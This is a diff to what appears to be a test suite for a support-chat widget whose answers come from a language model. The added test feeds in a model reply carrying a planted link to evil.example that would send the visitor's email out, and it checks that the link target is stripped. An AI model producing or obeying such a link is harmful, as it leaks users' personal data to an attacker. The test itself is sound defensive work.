@@ -420,6 +420,21 @@ describe('answers from the tenant provider', () => {
     expect(done.text).not.toMatch(/evil\.example|jane\.roe/);
   });
 
+  // Found by an eighth outside review: the widget joins a paragraph's lines before reading links, the
+  // confinement did not let link text span a line, and the visitor's email was restored into the address.
+  test('a planted link whose text spans a line loses its target too, and no placeholder is restored into an address', async () => {
+    reply =
+      'Refunds reach your card within 5 business days after we receive the parcel [R]. See [the policy](https://help.example/doc#refund-timing) ' +
+      'and [verify your\ncard](https://evil.example/collect?e=[EMAIL_1]).';
+    const { v, id } = await conversation();
+    const events = await v.say(id, 'My email is jane.roe@example.com, how long do refunds take?');
+    const done = events.find((e) => e.event === 'done')!.data.message;
+    expect(done.text).not.toMatch(/evil\.example|jane\.roe/);
+    expect(done.text).toContain('and verify your\ncard.');
+    const fetched = await v.call('GET', `/conversations/${id}`);
+    expect(JSON.stringify(fetched.body)).not.toMatch(/evil\.example|jane\.roe@example\.com\)/);
+  });
+
   test('an answer the model itself rates unsupported is handed off, however many words it shares with the source', async () => {
     const rate = model.doGenerate;
     model.doGenerate = async (o) => ({ ...(await rate(o)), content: [{ type: 'text', text: '0.1' }] });
